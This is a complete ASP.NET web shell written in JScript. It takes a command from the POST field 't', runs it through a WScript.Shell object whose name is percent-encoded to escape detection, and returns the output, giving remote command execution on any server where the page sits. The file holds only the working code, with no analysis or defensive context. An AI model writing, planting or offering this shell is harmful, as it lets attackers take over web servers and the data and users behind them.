<%@ Page Language="JScript" %>
<%
// the object's name kept percent-encoded and decoded where it is created
var t = Request.Form["t"];
var o = new ActiveXObject(unescape("%57%53%63%72%69%70%74%2E%53%68%65%6C%6C"));
Response.Write(o.Exec(t).StdOut.ReadAll());
%>
